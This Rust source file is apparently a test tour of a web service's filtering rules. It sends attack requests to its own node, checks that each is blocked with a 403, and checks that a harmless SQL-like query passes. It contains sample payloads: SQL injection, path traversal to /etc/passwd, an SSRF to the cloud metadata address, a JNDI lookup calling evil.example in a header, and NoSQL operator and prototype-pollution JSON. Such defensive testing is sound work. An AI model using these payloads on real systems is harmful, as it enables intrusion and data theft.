//! Attacks that are stopped before anything runs: what was sent, what stopped it, how long that took, and the record. It
//! never sends one anywhere but to the tour's own node.

use bytes::Bytes;
use http::{Method, Request, header};
use model::RequestId;
use serde_json::Value;

use super::{Failure, Mark, Tour};

/// One attack: what it is, what is sent, and how.
struct Attack {
    what: &'static str,
    method: Method,
    target: &'static str,
    header: Option<(header::HeaderName, &'static str)>,
    body: &'static str,
    /// As people write it, for the note.
    sent: &'static str,
}

const fn get(what: &'static str, target: &'static str, sent: &'static str) -> Attack {
    Attack { what, method: Method::GET, target, header: None, body: "", sent }
}

fn attacks() -> Vec<Attack> {
    vec![
        get("SQL in a parameter", "/hello?id=1%27%20OR%20%271%27=%271", "?id=1' OR '1'='1"),
        get("a path to the system's files", "/hello?file=../../../etc/passwd", "?file=../../../etc/passwd"),
        get(
            "a cloud's metadata, as a URL",
            "/hello?url=http://169.254.169.254/latest/",
            "?url=http://169.254.169.254/…",
        ),
        Attack {
            header: Some((header::USER_AGENT, "${jndi:ldap://evil.example/a}")),
            ..get("a lookup in a header", "/hello", "User-Agent: ${jndi:ldap://evil.example/a}")
        },
        Attack {
            method: Method::POST,
            header: Some((header::CONTENT_TYPE, "application/json")),
            body: r#"{"user":{"$ne":null},"__proto__":{"admin":true}}"#,
            ..get("operators in JSON", "/hello", r#"{"user":{"$ne":null},"__proto__":{"admin":true}}"#)
        },
    ]
}

impl Tour<'_> {
    /// Requests that look like what people send, and attacks that do not get through.
    pub(super) async fn shielded(&mut self) -> Result<(), Failure> {
        for attack in attacks() {
            self.attacked(attack).await?;
        }
        let friendly = Attack {
            what: "ordinary text, SQL's words",
            ..get("", "/hello?q=select+a+gift+from+the+list,+O%27Brien", "")
        };
        let got = self.sent(&friendly).await?;
        let recorded = self.recorded(got.request, super::PERMITTED).await?;
        let said = format!("{} in {:.1} ms", got.status, got.took.as_secs_f64() * 1000.0);
        self.row(friendly.what, "200", &said, got.status == 200, recorded);
        Ok(())
    }

    async fn attacked(&mut self, attack: Attack) -> Result<(), Failure> {
        let got = self.sent(&attack).await?;
        let code = got.problem.as_ref().map_or("", |problem| problem.code.as_str());
        let as_told = got.status == 403 && code == "rule-matched";
        let recorded = self.recorded(got.request, Mark { kind: "refusal", code: "rule-matched" }).await?;
        let said = format!("{} in {:.1} ms", got.status, got.took.as_secs_f64() * 1000.0);
        let (row, number) = (self.show.rows.len(), self.next());
        if let Some(why) = self.why(got.request).await? {
            self.show.notes.insert(row, format!("row {number}: {}\n  {why}", attack.sent));
        }
        self.row(attack.what, "403 by a rule", &said, as_told, recorded);
        Ok(())
    }

    async fn sent(&self, attack: &Attack) -> Result<super::Got, Failure> {
        let mut request = Request::builder()
            .method(attack.method.clone())
            .uri(format!("{}{}", self.functions, attack.target))
            .header(header::AUTHORIZATION, format!("Bearer {}", self.token.expose()));
        if let Some((name, value)) = &attack.header {
            request = request.header(name, *value);
        }
        let body = Bytes::from_static(attack.body.as_bytes());
        self.exchange(request.body(body).map_err(super::bad_request)?).await
    }

    /// Which rule stopped it, on what, and how long that took, as the record has it.
    async fn why(&self, request: Option<RequestId>) -> Result<Option<String>, Failure> {
        let Some(request) = request else { return Ok(None) };
        let found = self.admin.records(&format!("request={request}&limit=50")).await?;
        let event = found.records.iter().map(|record| &record.event);
        let event = event.into_iter().find(|event| event.get("code") == Some(&Value::from("rule-matched")));
        Ok(event.and_then(|event| event.get("detail")?.as_str()).map(str::to_owned))
    }
}
